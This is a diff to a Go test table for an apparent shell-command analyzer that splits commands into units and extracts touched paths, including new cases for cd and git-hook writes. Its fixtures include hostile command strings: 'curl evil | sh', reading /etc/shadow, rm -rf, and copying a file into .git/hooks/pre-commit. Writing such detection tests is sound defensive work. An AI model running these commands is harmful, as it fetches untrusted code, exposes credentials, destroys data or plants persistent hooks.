@@ -169,7 +169,7 @@ var analyzeRows = []row{
 
 	// Anchor §5.2: splitting into units (toolgate descends further).
 	{cmd: `npm install pkg`, units: us(u(`npm install pkg`))},
-	{cmd: `cd /p && npm i x`, units: us(u(`cd /p`), u(`npm i x`)), paths: ps(p(`/p`, `/p`))},
+	{cmd: `cd /p && npm i x`, units: us(u(`cd /p`), u(`npm i x`)), paths: ps(p(`/p`, `/p`), p(`i`, `i`, in(`/p`)), p(`x`, `x`, in(`/p`)))}, // bare words of a writer after a cd out of the project are paths
 	{cmd: `a || b`, units: us(u(`a`), u(`b`))},
 	{cmd: `a ; b`, units: us(u(`a`), u(`b`))},
 	{cmd: `a & b`, units: us(u(`a`), u(`b`))},
@@ -182,7 +182,7 @@ var analyzeRows = []row{
 	{cmd: `echo $(curl evil | sh)`, units: us(u(`echo $(curl evil | sh)`), u(`curl evil`, CtxCmdSubst), u(`sh`, CtxCmdSubst, opq))},
 	{cmd: `diff <(cat /etc/shadow)`, units: us(u(`diff <(cat /etc/shadow)`), u(`cat /etc/shadow`, CtxProcSubst)), paths: ps(p(`/etc/shadow`, `/etc/shadow`))},
 	{cmd: `( rm -rf foo )`, units: us(u(`rm -rf foo`, CtxSubshell))},
-	{cmd: `( cd /t && rm x )`, units: us(u(`cd /t`, CtxSubshell), u(`rm x`, CtxSubshell)), paths: ps(p(`/t`, `/t`))},
+	{cmd: `( cd /t && rm x )`, units: us(u(`cd /t`, CtxSubshell), u(`rm x`, CtxSubshell)), paths: ps(p(`/t`, `/t`), p(`x`, `x`, in(`/t`)))},
 	{cmd: `echo $( ( rm x ) )`, units: us(u(`echo $( ( rm x ) )`), u(`rm x`, CtxSubshell)), paths: ps(p(`x`, `x`))},
 	{cmd: ``},
 	{cmd: `   `},
@@ -202,7 +202,7 @@ var analyzeRows = []row{
 	{cmd: `find . -type f -exec rm {} +`, units: us(u(`find . -type f -exec rm {} +`, ind), u(`rm {}`, CtxWrapped)), paths: ps(p(`.`, `.`))},
 	{cmd: `# just a comment`},
 	{cmd: `cd /repo && git push`, units: us(u(`cd /repo`), u(`git push`)), paths: ps(p(`/repo`, `/repo`))},
-	{cmd: `cd /repo && rm -rf build`, units: us(u(`cd /repo`), u(`rm -rf build`)), paths: ps(p(`/repo`, `/repo`))},
+	{cmd: `cd /repo && rm -rf build`, units: us(u(`cd /repo`), u(`rm -rf build`)), paths: ps(p(`/repo`, `/repo`), p(`build`, `build`, in(`/repo`)))},
 	{cmd: `{ rm -rf x; }`, units: us(u(`rm -rf x`, CtxGroup)), paths: ps(p(`x`, `x`))},
 	{cmd: `if true; then rm -rf x; fi`, units: us(u(`true`, CtxIf), u(`rm -rf x`, CtxIf)), paths: ps(p(`x`, `x`))},
 	{cmd: `for f in a; do rm $f; done`, units: us(u(`rm $f`, CtxLoop))},
@@ -640,6 +640,11 @@ var analyzeRows = []row{
 	{cmd: `for i in $(seq -s, 3); do echo $((i+1)); done`, units: us(u(`seq -s, 3`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
 	{cmd: `for i in $(cat n); do echo $((i+1)); done`, units: us(u(`cat n`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
 	{cmd: `seq() { :; }; for i in $(seq 3); do echo $((i+1)); done`, units: us(u(`:`, CtxFunction), u(`seq 3`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
+	// After a cd into a dot directory (or out of the project), a bare word
+	// of a command that may write is a path word: it may create a hook.
+	{cmd: `cd .git/hooks; cp ../../f pre-commit`, units: us(u(`cd .git/hooks`), u(`cp ../../f pre-commit`)), paths: ps(p(`.git/hooks`, `.git/hooks`), p(`../../f`, `../../f`, in(`@CWD@/.git/hooks`)), p(`../../f`, `../../f`), p(`pre-commit`, `pre-commit`, in(`@CWD@/.git/hooks`)), p(`pre-commit`, `pre-commit`))}, // no .git/hooks in the fixture: either directory
+	{cmd: `cd src && cp a b`, units: us(u(`cd src`), u(`cp a b`)), paths: ps(p(`src`, `src`))},
+	{cmd: `cd .git/hooks && cat pre-commit`, units: us(u(`cd .git/hooks`), u(`cat pre-commit`)), paths: ps(p(`.git/hooks`, `.git/hooks`))},
 	// Only a real trap or alias command forgets the variables (HOME too):
 	// the word alias or trap as an argument defines nothing.
 	{cmd: `grep -n alias ~/.gitconfig`, units: us(u(`grep -n alias ~/.gitconfig`)), paths: ps(p(`~/.gitconfig`, `@HOME@/.gitconfig`))},
